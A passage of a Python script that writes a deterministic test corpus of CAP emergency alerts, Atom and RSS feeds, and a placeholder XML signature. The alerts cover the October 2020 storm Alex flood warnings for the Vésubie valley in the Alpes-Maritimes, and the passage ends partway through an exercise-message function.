"""Regenerate the intake test corpus: `python tests/data/intake/make_corpus.py`.

The documents are written byte for byte, so that the byte-order mark, the ISO-8859-1 text and
the invalid UTF-8 of some of them are exactly what the README says. Nothing is random: every run
writes the same bytes. The README is written by hand; the script only writes the documents.
"""

from __future__ import annotations

import base64
import hashlib
import json
import math
import struct
import unicodedata
import zlib
from dataclasses import dataclass, field, replace
from pathlib import Path

HERE = Path(__file__).resolve().parent

CAP12 = "urn:oasis:names:tc:emergency:cap:1.2"
CAP11 = "urn:oasis:names:tc:emergency:cap:1.1"
CAP10 = "http://www.incident.com/cap/1.0"
EDXL_DE = "urn:oasis:names:tc:emergency:EDXL:DE:1.0"
ATOM = "http://www.w3.org/2005/Atom"
DSIG = "http://www.w3.org/2000/09/xmldsig#"

DECL = '<?xml version="1.0" encoding="UTF-8"?>'

METEO_SENDER = "vigilance@meteo.fr"
VIGICRUES_SENDER = "vigicrues@developpement-durable.gouv.fr"
SDIS_SENDER = "cta-codis@sdis06.fr"
PREF_SENDER = "pref-defense-protection-civile@alpes-maritimes.gouv.fr"

# INSEE codes used in the corpus: only the ones the brief names, plus the département.
INSEE_SAINT_MARTIN_VESUBIE = "06127"
INSEE_BREIL_SUR_ROYA = "06023"
INSEE_TENDE = "06163"
INSEE_NICE = "06088"


class Raw(str):
    """Text already written as XML (escaped HTML, CDATA): put in the document as it is."""

    __slots__ = ()


def esc(text: str) -> str:
    """Text escaped for an XML element; a `Raw` text is kept as it is."""
    if isinstance(text, Raw):
        return str(text)
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


# --- CAP model and writer ----------------------------------------------------------------------


@dataclass(frozen=True)
class Area:
    desc: str
    polygons: tuple[str, ...] = ()
    circles: tuple[str, ...] = ()
    geocodes: tuple[tuple[str, str], ...] = ()
    altitude: str | None = None
    ceiling: str | None = None


@dataclass(frozen=True)
class Resource:
    desc: str
    mime: str
    size: int | None = None
    uri: str | None = None
    deref: str | None = None
    digest: str | None = None


@dataclass(frozen=True)
class Info:
    event: str | None
    urgency: str
    severity: str
    certainty: str
    categories: tuple[str, ...] = ("Met",)
    language: str | None = "fr-FR"
    response_types: tuple[str, ...] = ()
    audience: str | None = None
    event_codes: tuple[tuple[str, str], ...] = ()
    effective: str | None = None
    onset: str | None = None
    expires: str | None = None
    sender_name: str | None = None
    headline: str | None = None
    description: str | None = None
    instruction: str | None = None
    web: str | None = None
    contact: str | None = None
    parameters: tuple[tuple[str, str], ...] = ()
    resources: tuple[Resource, ...] = ()
    areas: tuple[Area, ...] = ()


@dataclass(frozen=True)
class Alert:
    identifier: str | None
    sender: str
    sent: str | None
    status: str = "Actual"
    msg_type: str = "Alert"
    scope: str = "Public"
    password: str | None = None  # CAP 1.0 only
    source: str | None = None
    restriction: str | None = None
    addresses: str | None = None
    codes: tuple[str, ...] = ()
    note: str | None = None
    references: str | None = None
    incidents: str | None = None
    infos: tuple[Info, ...] = field(default_factory=tuple)

    def reference(self) -> str:
        """This alert as a CAP `references` triple: sender,identifier,sent."""
        return f"{self.sender},{self.identifier},{self.sent}"


@dataclass
class _Writer:
    prefix: str = ""
    indent: str = "  "
    base: int = 0
    legacy_maps: bool = False  # CAP 1.0 writes geocode, parameter, eventCode as "name=value"
    lines: list[str] = field(default_factory=list)

    def _tag(self, name: str) -> str:
        return f"{self.prefix}:{name}" if self.prefix else name

    def _pad(self, depth: int) -> str:
        return self.indent * (self.base + depth)

    def leaf(self, depth: int, name: str, text: str | None) -> None:
        if text is not None:
            tag = self._tag(name)
            self.lines.append(f"{self._pad(depth)}<{tag}>{esc(text)}</{tag}>")

    def leaves(self, depth: int, name: str, texts: tuple[str, ...]) -> None:
        for text in texts:
            self.leaf(depth, name, text)

    def pairs(self, depth: int, name: str, pairs: tuple[tuple[str, str], ...]) -> None:
        for value_name, value in pairs:
            if self.legacy_maps:
                self.leaf(depth, name, f"{value_name}={value}")
            else:
                self.open(depth, name)
                self.leaf(depth + 1, "valueName", value_name)
                self.leaf(depth + 1, "value", value)
                self.close(depth, name)

    def open(self, depth: int, name: str, attrs: str = "") -> None:
        self.lines.append(f"{self._pad(depth)}<{self._tag(name)}{attrs}>")

    def close(self, depth: int, name: str) -> None:
        self.lines.append(f"{self._pad(depth)}</{self._tag(name)}>")


def _write_area(out: _Writer, depth: int, area: Area) -> None:
    out.open(depth, "area")
    out.leaf(depth + 1, "areaDesc", area.desc)
    out.leaves(depth + 1, "polygon", area.polygons)
    out.leaves(depth + 1, "circle", area.circles)
    out.pairs(depth + 1, "geocode", area.geocodes)
    out.leaf(depth + 1, "altitude", area.altitude)
    out.leaf(depth + 1, "ceiling", area.ceiling)
    out.close(depth, "area")


def _write_resource(out: _Writer, depth: int, resource: Resource) -> None:
    out.open(depth, "resource")
    out.leaf(depth + 1, "resourceDesc", resource.desc)
    out.leaf(depth + 1, "mimeType", resource.mime)
    out.leaf(depth + 1, "size", None if resource.size is None else str(resource.size))
    out.leaf(depth + 1, "uri", resource.uri)
    out.leaf(depth + 1, "derefUri", resource.deref)
    out.leaf(depth + 1, "digest", resource.digest)
    out.close(depth, "resource")


def _write_info(out: _Writer, depth: int, info: Info, attrs: str = "") -> None:
    out.open(depth, "info", attrs)
    d = depth + 1
    out.leaf(d, "language", info.language)
    out.leaves(d, "category", info.categories)
    out.leaf(d, "event", info.event)
    out.leaves(d, "responseType", info.response_types)
    for name in ("urgency", "severity", "certainty", "audience"):
        out.leaf(d, name, getattr(info, name))
    out.pairs(d, "eventCode", info.event_codes)
    for name in ("effective", "onset", "expires"):
        out.leaf(d, name, getattr(info, name))
    out.leaf(d, "senderName", info.sender_name)
    for name in ("headline", "description", "instruction", "web", "contact"):
        out.leaf(d, name, getattr(info, name))
    out.pairs(d, "parameter", info.parameters)
    for resource in info.resources:
        _write_resource(out, d, resource)
    for area in info.areas:
        _write_area(out, d, area)
    out.close(depth, "info")


def cap(
    alert: Alert,
    *,
    ns: str = CAP12,
    prefix: str = "",
    indent: str = "  ",
    quote: str = '"',
    declaration: str | None = DECL,
    base: int = 0,
    info_attrs: str = "",
    tail: str = "",
) -> str:
    """The alert as CAP XML text; `tail` is XML put last in `<alert>` (a signature)."""
    out = _Writer(prefix=prefix, indent=indent, base=base, legacy_maps=ns == CAP10)
    if declaration is not None:
        out.lines.append(declaration)
    xmlns = f"xmlns:{prefix}" if prefix else "xmlns"
    out.open(0, "alert", f" {xmlns}={quote}{ns}{quote}")
    out.leaf(1, "identifier", alert.identifier)
    out.leaf(1, "sender", alert.sender)
    out.leaf(1, "password", alert.password)
    out.leaf(1, "sent", alert.sent)
    out.leaf(1, "status", alert.status)
    out.leaf(1, "msgType", alert.msg_type)
    out.leaf(1, "source", alert.source)
    out.leaf(1, "scope", alert.scope)
    out.leaf(1, "restriction", alert.restriction)
    out.leaf(1, "addresses", alert.addresses)
    out.leaves(1, "code", alert.codes)
    out.leaf(1, "note", alert.note)
    out.leaf(1, "references", alert.references)
    out.leaf(1, "incidents", alert.incidents)
    for info in alert.infos:
        _write_info(out, 1, info, info_attrs)
    if tail:
        out.lines.extend(indent * (base + 1) + line for line in tail.splitlines())
    out.close(0, "alert")
    return "\n".join(out.lines) + "\n"


# --- Geometry helpers --------------------------------------------------------------------------


def ring(points: list[tuple[float, float]], *, sign: str = "") -> str:
    """A CAP polygon "lat,lon lat,lon ..." whose first point is repeated last."""
    closed = [*points, points[0]]
    return " ".join(f"{sign}{lat:.4f},{sign}{lon:.4f}" for lat, lon in closed)


def blob(lat: float, lon: float, r_km: float, n: int, phase: float) -> list[tuple[float, float]]:
    """`n` points of an irregular closed outline around a point (not closed: see `ring`)."""
    k_lat = 1 / 111.2
    k_lon = 1 / (111.2 * math.cos(math.radians(lat)))
    points = []
    for i in range(n):
        theta = 2 * math.pi * i / n
        r = r_km * (1 + 0.18 * math.sin(3 * theta + phase) + 0.07 * math.cos(7 * theta - phase))
        points.append((lat + r * k_lat * math.sin(theta), lon + r * k_lon * math.cos(theta)))
    return points


# Upper Vésubie, from Le Boréon down to Roquebillière (lat, lon).
VESUBIE_AMONT = [
    (44.1120, 7.2880),
    (44.0880, 7.2760),
    (44.0620, 7.2740),
    (44.0300, 7.3120),
    (44.0020, 7.3200),
    (43.9980, 7.2960),
    (44.0250, 7.2880),
    (44.0580, 7.2420),
    (44.0900, 7.2480),
    (44.1140, 7.2700),
]
# Lower Vésubie, from Lantosque down to Saint-Jean-la-Rivière (lat, lon).
VESUBIE_AVAL = [
    (43.9950, 7.3150),
    (43.9700, 7.3260),
    (43.9420, 7.3050),
    (43.9080, 7.2780),
    (43.8850, 7.2520),
    (43.8930, 7.2290),
    (43.9200, 7.2560),
    (43.9550, 7.2850),
    (43.9800, 7.2980),
]
VESUBIE_POLYGONS = (ring(VESUBIE_AMONT), ring(VESUBIE_AVAL))
# Nice, lower Var valley and the Paillon (lat, lon).
NICE_RING = [(43.6700, 7.2000), (43.6950, 7.2950), (43.7350, 7.3000), (43.7300, 7.2050)]


# --- Shared texts ------------------------------------------------------------------------------

CONSEILS_ORANGE_PLUIE = (
    "Renseignez-vous avant d'entreprendre vos déplacements et soyez très prudents. "
    "Respectez, en particulier, les déviations mises en place. "
    "Ne vous engagez en aucun cas, à pied ou en voiture, sur une voie immergée. "
    "Dans les zones habituellement inondables, mettez en sécurité vos biens susceptibles "
    "d'être endommagés et surveillez la montée des eaux."
)
CONSEILS_ROUGE_CRUES = (
    "Mettez-vous à l'abri dans un étage élevé ou sur un point haut. "
    "Ne prenez pas votre véhicule et ne vous engagez en aucun cas, à pied ou en voiture, "
    "sur une voie immergée ou un pont. Éloignez-vous des berges. "
    "Tenez-vous informés auprès des autorités et suivez leurs consignes, "
    "y compris d'évacuation."
)
ROUGE_CRUES = (
    "Risque de crue majeure. Menace directe et généralisée de la sécurité "
    "des personnes et des biens."
)


# --- Good inputs -------------------------------------------------------------------------------


def meteofrance_orange() -> Alert:
    area = Area("Alpes-Maritimes", geocodes=(("NUTS3", "FRL03"), ("INSEE", "06")))
    common = {
        "categories": ("Met",),
        "response_types": ("Monitor",),
        "urgency": "Future",
        "severity": "Severe",
        "certainty": "Likely",
        "effective": "2020-10-01T16:00:00+02:00",
        "onset": "2020-10-02T06:00:00+02:00",
        "expires": "2020-10-03T06:00:00+02:00",
        "web": "https://vigilance.meteofrance.fr/fr/alpes-maritimes",
        "parameters": (
            ("awareness_level", "3; orange; Severe"),
            ("awareness_type", "13; rain-flood"),
        ),
        "areas": (area,),
    }
    fr = Info(
        language="fr-FR",
        event="Vigilance orange pluie-inondation",
        sender_name="Météo-France",
        headline="Alpes-Maritimes : vigilance orange pluie-inondation",
        description=(
            "Épisode méditerranéen associé à la tempête Alex. Des pluies intenses, souvent "
            "orageuses, concernent l'arrière-pays niçois à partir de vendredi matin. Cumuls "
            "attendus de 150 à 250 mm en 24 heures sur les vallées de la Vésubie, de la Tinée "
            "et de la Roya, localement 300 mm. Intensités horaires de 40 à 60 mm possibles."
        ),
        instruction=CONSEILS_ORANGE_PLUIE,
        contact="Météo-France",
        **common,  # type: ignore[arg-type]
    )
    en = Info(
        language="en-GB",
        event="Orange rain-flood warning",
        sender_name="Météo-France",
        headline="Alpes-Maritimes: orange rain-flood warning",
        description=(
            "Mediterranean rain event linked to storm Alex. Intense, often thundery rain over "
            "the hinterland of Nice from Friday morning. 150 to 250 mm expected within 24 hours "
            "over the Vésubie, Tinée and Roya valleys, locally 300 mm. Hourly rates of 40 to "
            "60 mm possible."
        ),
        instruction=(
            "Check conditions before travelling and be very careful. Follow diversions. "
            "Never enter a flooded road, on foot or by car. In flood-prone areas, move your "
            "belongings to safety and watch the water level."
        ),
        contact="Météo-France",
        **common,  # type: ignore[arg-type]
    )
    return Alert(
        identifier="urn:oid:2.49.0.1.250.0.FR-METEOFRANCE.2020.10.01.16.00.06.PLUIE-INONDATION",
        sender=METEO_SENDER,
        sent="2020-10-01T16:00:00+02:00",
        infos=(fr, en),
    )


VESUBIE_AREAS = (
    Area(
        "Vallée de la Vésubie, de Saint-Martin-Vésubie à Saint-Jean-la-Rivière",
        polygons=VESUBIE_POLYGONS,
    ),
    Area("Saint-Martin-Vésubie", geocodes=(("INSEE", INSEE_SAINT_MARTIN_VESUBIE),)),
)


def vigicrues_rouge() -> Alert:
    info = Info(
        categories=("Met",),
        event="Vigilance rouge crues",
        response_types=("Shelter", "Avoid"),
        urgency="Immediate",
        severity="Extreme",
        certainty="Observed",
        onset="2020-10-02T16:00:00+02:00",
        expires="2020-10-03T16:00:00+02:00",
        sender_name="Vigicrues - SPC Méditerranée Est",
        headline="Vigilance rouge crues sur la Vésubie",
        description=(
            f"{ROUGE_CRUES} Tronçon Vésubie : sous l'effet des pluies exceptionnelles de la "
            "tempête Alex (près de 500 mm en moins de 24 heures à Saint-Martin-Vésubie), la "
            "Vésubie connaît une crue d'une ampleur exceptionnelle, supérieure aux plus hautes "
            "eaux connues. Débordements majeurs et érosions de berges en cours de "
            "Saint-Martin-Vésubie à Lantosque."
        ),
        instruction=CONSEILS_ROUGE_CRUES,
        web="https://www.vigicrues.gouv.fr",
        contact="SPC Méditerranée Est",
        parameters=(("troncon", "Vésubie"), ("couleur_vigilance", "rouge")),
        areas=VESUBIE_AREAS,
    )
    return Alert(
        identifier="FR-VIGICRUES-SPC-MEDEST-20201002T160000-VESUBIE",
        sender=VIGICRUES_SENDER,
        sent="2020-10-02T16:00:00+02:00",
        source="SPC Méditerranée Est",
        infos=(info,),
    )


def vigicrues_update() -> Alert:
    first = vigicrues_rouge()
    info = replace(
        first.infos[0],
        onset="2020-10-02T20:00:00+02:00",
        expires="2020-10-03T20:00:00+02:00",
        headline="Vigilance rouge crues maintenue sur la Vésubie",
        description=(
            f"{ROUGE_CRUES} Point de situation de 20h00 : la crue de la Vésubie est à son "
            "maximum. Nombreux ponts emportés, route de la Vésubie (RM 2565) coupée en "
            "plusieurs points, habitations détruites à Saint-Martin-Vésubie et à "
            "Roquebillière. Une décrue lente est attendue dans la nuit, mais la vigilance "
            "rouge est maintenue jusqu'à nouvel ordre."
        ),
    )
    return Alert(
        identifier="FR-VIGICRUES-SPC-MEDEST-20201002T200000-VESUBIE",
        sender=VIGICRUES_SENDER,
        sent="2020-10-02T20:00:00+02:00",
        msg_type="Update",
        source="SPC Méditerranée Est",
        references=first.reference(),
        infos=(info,),
    )


def vigicrues_cancel() -> Alert:
    info = Info(
        categories=("Met",),
        event="Vigilance rouge crues",
        response_types=("AllClear",),
        urgency="Past",
        severity="Minor",
        certainty="Observed",
        expires="2020-10-04T16:00:00+02:00",
        sender_name="Vigicrues - SPC Méditerranée Est",
        headline="Fin de la vigilance rouge crues sur la Vésubie",
        description=(
            "La décrue de la Vésubie est engagée depuis la nuit. La vigilance rouge crues est "
            "levée et le tronçon Vésubie repasse en vigilance jaune. Les dégâts restent "
            "considérables : berges instables, ouvrages fragilisés."
        ),
        instruction="Ne vous approchez pas des berges ni des ouvrages endommagés.",
        web="https://www.vigicrues.gouv.fr",
        contact="SPC Méditerranée Est",
        areas=VESUBIE_AREAS,
    )
    return Alert(
        identifier="FR-VIGICRUES-SPC-MEDEST-20201003T160000-VESUBIE",
        sender=VIGICRUES_SENDER,
        sent="2020-10-03T16:00:00+02:00",
        msg_type="Cancel",
        source="SPC Méditerranée Est",
        note="Fin de vigilance rouge crues sur la Vésubie",
        references=f"{vigicrues_rouge().reference()} {vigicrues_update().reference()}",
        infos=(info,),
    )


def sdis_circle() -> Alert:
    info = Info(
        categories=("Geo", "Rescue"),
        event="Mouvement de terrain - glissement",
        response_types=("Avoid",),
        urgency="Immediate",
        severity="Severe",
        certainty="Observed",
        onset="2020-10-02T17:30:00+02:00",
        sender_name="SDIS 06 - CTA-CODIS",
        headline="Glissement de terrain actif au-dessus de Saint-Martin-Vésubie",
        description=(
            "Glissement de terrain actif en rive droite de la Vésubie, secteur Venanson - "
            "Saint-Martin-Vésubie. Coulée de boue et blocs sur la chaussée de la RM 2565, "
            "habitations menacées. Engagés : 1 VSAV, 1 FPT, 1 CDG ; équipe SD "
            "(sauvetage-déblaiement) demandée. Périmètre de sécurité de 2,5 km."
        ),
        instruction="Circulation interdite dans le périmètre. Regroupement des moyens à "
        "l'entrée sud du village.",
        contact="CODIS 06 - officier CODIS",
        areas=(
            Area(
                "Secteur Venanson - Saint-Martin-Vésubie, rive droite de la Vésubie",
                circles=("44.07,7.27 2.5",),
                geocodes=(("INSEE", INSEE_SAINT_MARTIN_VESUBIE),),
                altitude="300",
                ceiling="1200",
            ),
        ),
    )
    return Alert(
        identifier="SDIS06-CODIS-20201002-4488",
        sender=SDIS_SENDER,
        sent="2020-10-02T17:45:00+02:00",
        scope="Restricted",
        restriction="Diffusion COD 06 et préfecture des Alpes-Maritimes",
        source="CTA-CODIS 06",
        incidents="SDIS06-2020-4488",
        infos=(info,),
    )


def prefecture_cap10() -> Alert:
    info = Info(
        categories=("Safety",),
        event="Consignes de sécurité - épisode méditerranéen",
        urgency="Expected",
        severity="Severe",
        certainty="Likely",
        expires="2020-10-03T08:00:00+02:00",
        sender_name="Préfecture des Alpes-Maritimes",
        headline="Tempête Alex : écoles fermées, déplacements à éviter",
        description=(
            "En raison de la vigilance rouge pluie-inondation, le préfet des Alpes-Maritimes "
            "a décidé la fermeture des établissements scolaires le vendredi 2 octobre 2020 et "
            "demande d'éviter tout déplacement non indispensable."
        ),
        instruction=(
            "Restez chez vous. Ne vous engagez pas sur les routes inondées. "
            "Suivez les consignes des maires et des services de secours."
        ),
        web="https://www.alpes-maritimes.gouv.fr",
        contact="Préfecture des Alpes-Maritimes - COD",
        areas=(
            Area(
                "Nice et communes du moyen et haut pays",
                polygons=(ring(NICE_RING),),
                geocodes=(("INSEE", INSEE_NICE),),
            ),
        ),
    )
    return Alert(
        identifier="PREF06-COD-20201002-001",
        sender=PREF_SENDER,
        # CAP 1.0 only; a made-up word, not a credential of any system.
        password="exemple-cap10",
        sent="2020-10-02T07:00:00+02:00",
        infos=(info,),
    )


def fr_alert_like(status: str, identifier: str, sent: str, headline: str, note: str) -> Alert:
    """A prefecture alert in the style of FR-Alert (EU-Alert level 1 / CAP 1.2)."""
    info = Info(
        categories=("Met", "Safety"),
        event="Inondation",
        response_types=("Shelter",),
        urgency="Immediate",
        severity="Extreme",
        certainty="Likely",
        sender_name="Préfecture des Alpes-Maritimes",
        headline=headline,
        description=(
            "Crue dangereuse de la Vésubie. Montée rapide des eaux dans la vallée, de "
            "Saint-Martin-Vésubie à Lantosque."
        ),
        instruction=(
            "Mettez-vous à l'abri dans un étage élevé. Ne prenez pas votre véhicule. "
            "Ne vous approchez pas des cours d'eau. Informez-vous sur alpes-maritimes.gouv.fr."
        ),
        web="https://www.alpes-maritimes.gouv.fr",
        contact="Préfecture des Alpes-Maritimes",
        areas=(
            Area(
                "Saint-Martin-Vésubie",
                polygons=(ring(VESUBIE_AMONT),),
                geocodes=(("INSEE", INSEE_SAINT_MARTIN_VESUBIE),),
            ),
        ),
    )
    return Alert(
        identifier=identifier,
        sender=PREF_SENDER,
        sent=sent,
        status=status,
        note=note,
        infos=(info,),
    )


def exercise() -> Alert:
    return fr_alert_like(
        "Exercise",
        "PREF06-FRALERT-EXE-20200924-0001",
        "2020-09-24T10:00:00+02:00",
        "EXERCICE EXERCICE - Inondation Vésubie : mettez-vous à l'abri - EXERCICE",
        "Exercice départemental ORSEC inondation Vésubie",
    )


def test_message() -> Alert:
    return fr_alert_like(
        "Test",
        "PREF06-FRALERT-TST-20200930-0001",
        "2020-09-30T12:00:00+02:00",
        "Message de test de la préfecture des Alpes-Maritimes - ne pas tenir compte",
        "Test technique de la chaîne de diffusion",
    )


def system_message() -> Alert:
    return fr_alert_like(
        "System",
        "PREF06-FRALERT-SYS-20201001-0001",
        "2020-10-01T03:00:00+02:00",
        "Message système - contrôle de la chaîne de diffusion",
        "Message de contrôle périodique, sans objet pour le public",
    )


def _b64(data: bytes, width: int = 64, pad: str = "") -> str:
    """Base64 in lines of `width` characters, each line starting with `pad`."""
    text = base64.b64encode(data).decode("ascii")
    return "\n".join(pad + text[i : i + width] for i in range(0, len(text), width))


def _bytes(seed: str, n: int) -> bytes:
    """Deterministic bytes that look random (for a signature that need not verify)."""
    out = b""
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}:{counter}".encode()).digest()
        counter += 1
    return out[:n]


def signature_xml() -> str:
    certificate = b"\x30\x82\x03\x2a\x30\x82\x02\x12\xa0\x03\x02\x01\x02" + _bytes("cert", 797)
    lines = [
        f'<Signature xmlns="{DSIG}">',
        "  <SignedInfo>",
        '    <CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>',
        '    <SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>',
        '    <Reference URI="">',
        "      <Transforms>",
        f'        <Transform Algorithm="{DSIG}enveloped-signature"/>',
        '        <Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>',
        "      </Transforms>",
        '      <DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/>',
        f"      <DigestValue>{base64.b64encode(_bytes('digest', 32)).decode()}</DigestValue>",
        "    </Reference>",
        "  </SignedInfo>",
        f"  <SignatureValue>\n{_b64(_bytes('signature', 256), pad='    ')}\n  </SignatureValue>",
        "  <KeyInfo>",
        "    <X509Data>",
        "      <X509SubjectName>CN=vigilance.meteo.fr,O=Meteo-France,C=FR</X509SubjectName>",
        f"      <X509Certificate>\n{_b64(certificate, pad='        ')}\n      </X509Certificate>",
        "    </X509Data>",
        "  </KeyInfo>",
        "</Signature>",
    ]
    return "\n".join(lines)


def signed() -> Alert:
    base = meteofrance_orange()
    red = replace(
        base.infos[0],
        event="Vigilance rouge pluie-inondation",
        response_types=("Prepare",),
        urgency="Immediate",
        severity="Extreme",
        headline="Alpes-Maritimes : vigilance rouge pluie-inondation",
        description=(
            "Épisode méditerranéen exceptionnel associé à la tempête Alex. Pluies diluviennes "
            "sur l'arrière-pays niçois de vendredi matin à samedi matin : cumuls de 300 à "
            "500 mm en 24 heures sur les vallées de la Vésubie, de la Tinée et de la Roya, "
            "intensités horaires dépassant 60 mm. Crues torrentielles et coulées de boue "
            "attendues."
        ),
        instruction=(
            "Mettez-vous à l'abri. Ne prenez pas votre véhicule. Ne vous engagez en aucun cas, "
            "à pied ou en voiture, sur une voie immergée. Tenez-vous informés et suivez les "
            "consignes des autorités."
        ),
        effective="2020-10-02T06:00:00+02:00",
        onset="2020-10-02T06:00:00+02:00",
        expires="2020-10-03T06:00:00+02:00",
        parameters=(("awareness_level", "4; red; Extreme"), ("awareness_type", "13; rain-flood")),
    )
    return Alert(
        identifier="urn:oid:2.49.0.1.250.0.FR-METEOFRANCE.2020.10.02.06.00.06.PLUIE-INONDATION",
        sender=METEO_SENDER,
        sent="2020-10-02T06:00:00+02:00",
        infos=(red,),
    )


def png_8x8() -> bytes:
    """A valid 8x8 RGB PNG: a Vigilance orange square with a red diagonal."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    rows = b""
    for y in range(8):
        row = b"".join(b"\xe0\x1b\x24" if x == y else b"\xff\x99\x00" for x in range(8))
        rows += b"\x00" + row
    header = struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows, 9))
        + chunk(b"IEND", b"")
    )


def resources() -> Alert:
    png = png_8x8()
    info = replace(
        vigicrues_rouge().infos[0],
        resources=(
            Resource(
                desc="Carte de vigilance crues (vignette)",
                mime="image/png",
                size=len(png),
                deref=base64.b64encode(png).decode("ascii"),
                digest=hashlib.sha1(png, usedforsecurity=False).hexdigest(),
            ),
            Resource(
                desc="Bulletin de vigilance crues (PDF)",
                mime="application/pdf",
                uri="https://www.vigicrues.gouv.fr/bulletins/2020-10-02-1600-SPC-MEDEST.pdf",
            ),
        ),
    )
    return Alert(
        identifier="FR-VIGICRUES-SPC-MEDEST-20201002T160500-VESUBIE-RES",
        sender=VIGICRUES_SENDER,
        sent="2020-10-02T16:05:00+02:00",
        source="SPC Méditerranée Est",
        infos=(info,),
    )


def meteofrance_red_06() -> Alert:
    return replace(
        signed(),
        identifier="urn:oid:2.49.0.1.250.0.FR-METEOFRANCE.2020.10.02.06.00.06.ROUGE-ATOM",
    )


def meteofrance_orages_06() -> Alert:
    info = replace(
        meteofrance_orange().infos[0],
        event="Vigilance orange orages",
        headline="Alpes-Maritimes : vigilance orange orages",
        effective=None,
        contact=None,
        description=(
            "Orages violents sur le littoral et le moyen pays : fortes rafales, grêle possible."
        ),
        instruction=("Évitez les déplacements. Ne vous abritez pas sous les arbres."),
        parameters=(
            ("awareness_level", "3; orange; Severe"),
            ("awareness_type", "3; thunderstorm"),
        ),
    )
    return Alert(
        identifier="urn:oid:2.49.0.1.250.0.FR-METEOFRANCE.2020.10.02.06.00.06.ORAGES-ATOM",
        sender=METEO_SENDER,
        sent="2020-10-02T06:00:00+02:00",
        infos=(info,),
    )


def atom_feed() -> str:
    def entry_inline(alert: Alert, title: str) -> str:
        info = alert.infos[0]
        body = cap(alert, declaration=None, base=3)
        return "\n".join(
            [
                "  <entry>",
                f"    <id>{alert.identifier}</id>",
                f"    <title>{esc(title)}</title>",
                f"    <updated>{alert.sent}</updated>",
                f"    <author><name>{esc(info.sender_name or '')}</name></author>",
                '    <link rel="alternate" type="text/html"',
                f'          href="{info.web}"/>',
                f"    <cap:event>{esc(info.event or '')}</cap:event>",
                f"    <cap:severity>{info.severity}</cap:severity>",
                f"    <cap:areaDesc>{esc(info.areas[0].desc)}</cap:areaDesc>",
                '    <content type="application/cap+xml">',
                body.rstrip("\n"),
                "    </content>",
                "  </entry>",
            ]
        )

    sdis = sdis_circle()
    lines = [
        DECL,
        f'<feed xmlns="{ATOM}" xmlns:cap="{CAP12}">',
        "  <id>https://feeds.meteoalarm.org/feeds/meteoalarm-legacy-atom-france</id>",
        "  <title>MeteoAlarm France - Alpes-Maritimes</title>",
        "  <updated>2020-10-02T17:50:00+02:00</updated>",
        "  <author><name>MeteoAlarm</name></author>",
        '  <link rel="self" href="atom_meteoalarm.xml"/>',
        entry_inline(meteofrance_red_06(), "Vigilance rouge pluie-inondation - Alpes-Maritimes"),
        entry_inline(meteofrance_orages_06(), "Vigilance orange orages - Alpes-Maritimes"),
        "  <entry>",
        f"    <id>tag:sdis06.fr,2020:{sdis.identifier}</id>",
        "    <title>SDIS 06 - Mouvement de terrain - Saint-Martin-Vésubie</title>",
        f"    <updated>{sdis.sent}</updated>",
        "    <author><name>SDIS 06 - CTA-CODIS</name></author>",
        '    <link rel="alternate" type="application/cap+xml" href="cap11_sdis_circle.xml"/>',
        "    <summary>Glissement de terrain actif au-dessus de Saint-Martin-Vésubie</summary>",
        "  </entry>",
        "</feed>",
    ]
    return "\n".join(lines) + "\n"


def rss_feed(cap10_length: int) -> str:
    lines = [
        DECL,
        '<rss version="2.0">',
        "  <channel>",
        "    <title>Vigicrues - Méditerranée Est - Alpes-Maritimes</title>",
        "    <link>https://www.vigicrues.gouv.fr</link>",
        "    <description>Vigilance crues et messages des autorités</description>",
        "    <language>fr-fr</language>",
        "    <lastBuildDate>Sat, 03 Oct 2020 16:00:00 +0200</lastBuildDate>",
        "    <item>",
        "      <title>Vigilance rouge crues sur la Vésubie</title>",
        "      <link>cap12_vigicrues_rouge_vesubie.xml</link>",
        "      <description>Risque de crue majeure sur le tronçon Vésubie.</description>",
        "      <pubDate>Fri, 02 Oct 2020 16:00:00 +0200</pubDate>",
        '      <guid isPermaLink="false">FR-VIGICRUES-SPC-MEDEST-20201002T160000-VESUBIE</guid>',
        "    </item>",
        "    <item>",
        "      <title>Vigilance rouge crues maintenue sur la Vésubie</title>",
        "      <link>cap12_vigicrues_update.xml</link>",
        "      <description>Point de situation de 20h00.</description>",
        "      <pubDate>Fri, 02 Oct 2020 20:00:00 +0200</pubDate>",
        '      <guid isPermaLink="false">FR-VIGICRUES-SPC-MEDEST-20201002T200000-VESUBIE</guid>',
        "    </item>",
        "    <item>",
        "      <title>Préfecture : écoles fermées, déplacements à éviter</title>",
        "      <description>Message de la préfecture des Alpes-Maritimes.</description>",
        "      <pubDate>Fri, 02 Oct 2020 07:00:00 +0200</pubDate>",
        '      <guid isPermaLink="false">PREF06-COD-20201002-001</guid>',
        f'      <enclosure url="cap10_prefecture.xml" type="application/cap+xml"'
        f' length="{cap10_length}"/>',
        "    </item>",
        "  </channel>",
        "</rss>",
    ]
    return "\n".join(lines) + "\n"


def _exercise_alert(n: int, event: str, headline: str, area: Area) -> Alert:
    info = Info(
        categories=("Met",),
        event=event,
        urgency="Expected",
        severity="Severe",
        certainty="Likely",
        sender_name="Préfecture des Alpes-Maritimes - COD (EXERCICE)",
        headline=f"EXERCICE - {headline}",
        description=(
            "EXERCICE EXERCICE EXERCICE. Scénario : crue torrentielle. Message de "
            "l'exercice ORSEC inondation, sans objet pour la population."
        ),
        instruction="EXERCICE - Appliquer les fiches réflexes ORSEC.",
        contact="COD 06 - cellule exercice",
        areas=(area,),
    )
    return Alert(
        identifier=f"PREF06-EXERCICE-ORSEC-20200924-{n:04d}",
        sender=PREF_SENDER,
        sent=f"2020-09-24T{8 + n:02d}:30:00+02:00",
        status="Exercise",
        note="EXERCICE ORSEC inondation Vésubie-Roya",
        infos=(info,),
    )


def edxl_exercise() -> str:
    a1 = _exercise_alert(
        1,
        "Vigilance rouge crues",
        "Crue majeure de la Vésubie",
